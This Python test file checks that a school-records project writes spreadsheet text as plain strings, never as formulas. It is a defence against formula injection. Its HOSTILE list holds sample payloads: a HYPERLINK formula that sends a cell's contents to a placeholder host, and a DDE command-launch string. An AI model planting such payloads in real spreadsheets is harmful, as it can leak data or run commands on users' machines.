"""Every cell the project writes into a spreadsheet keeps its type: text is text, never a formula."""

from __future__ import annotations

import ast
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from hocbaso.core.xlsx_cells import put, would_start_formula

# What a hostile name or comment looks like (OWASP "CSV injection", as it reaches .xlsx files).
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 905 000 000",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def read_back(content: bytes) -> list[tuple[object, str, bool]]:
    """(value, data type, quote prefix) of every non-empty cell of the first sheet."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [
        (c.value, c.data_type, bool(c.quotePrefix)) for row in sheet.iter_rows() for c in row if c.value is not None
    ]


@pytest.mark.parametrize(
    ("value", "data_type", "quoted"),
    [
        *[(text, "s", True) for text in HOSTILE],
        ("Nguyễn Văn An", "s", False),
        ("Em học tốt; cần luyện viết = đẹp hơn.", "s", False),
        ("", "s", False),
        (9, "n", False),
        (8.5, "n", False),
        (-3, "n", False),
        (dt.datetime(2025, 9, 5, 7, 30), "d", False),  # noqa: DTZ001 - a spreadsheet cell has no zone
    ],
)
def test_put_keeps_the_type(value: object, data_type: str, quoted: bool) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    put(sheet, 3, 2, value)
    put(sheet, 4, 2, None)
    out = io.BytesIO()
    book.save(out)
    cells = read_back(out.getvalue())
    if value == "":
        assert cells == []  # an empty string is an empty cell
        return
    [(read, read_type, read_quoted)] = cells
    assert (read_type, read_quoted) == (data_type, quoted)
    assert read == value


@pytest.mark.parametrize(("text", "expected"), [(t, True) for t in HOSTILE] + [("An", False), (" =1", False)])
def test_would_start_formula(text: str, expected: bool) -> None:
    assert would_start_formula(text) is expected


CELL_REFERENCE = re.compile(r"^[A-Z]{1,3}[1-9][0-9]*$")
ROOT = Path(__file__).resolve().parents[2]  # the hocbaso package


def direct_writes(tree: ast.AST) -> list[int]:
    """Lines writing a cell other than through ``put``: ``x.cell(..., value=...)`` (or a third
    positional argument) and ``x["A1"] = ...``."""
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "cell"
            and (len(node.args) > 2 or any(k.arg == "value" for k in node.keywords))
        ):
            found.append(node.lineno)
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if (
                    isinstance(target, ast.Subscript)
                    and isinstance(target.slice, ast.Constant)
                    and isinstance(target.slice.value, str)
                    and CELL_REFERENCE.match(target.slice.value)
                ):
                    found.append(node.lineno)
    return found


def test_no_module_writes_cells_around_put() -> None:
    offenders = []
    for path in ROOT.rglob("*.py"):
        if "tests" in path.parts or path.name == "xlsx_cells.py":
            continue
        offenders += [f"{path.relative_to(ROOT.parent)}:{line}" for line in direct_writes(ast.parse(path.read_text()))]
    assert offenders == [], "write spreadsheet cells through hocbaso.core.xlsx_cells.put"


def test_the_scan_finds_direct_writes() -> None:
    sample = (
        'sheet["A1"] = name\nsheet.cell(row=1, column=2, value=name)\nsheet.cell(1, 2, name)\n'
        "sheet.cell(row=1, column=2)\n"
    )
    assert sorted(direct_writes(ast.parse(sample + 'users["officer2"] = user\n'))) == [1, 2, 3]
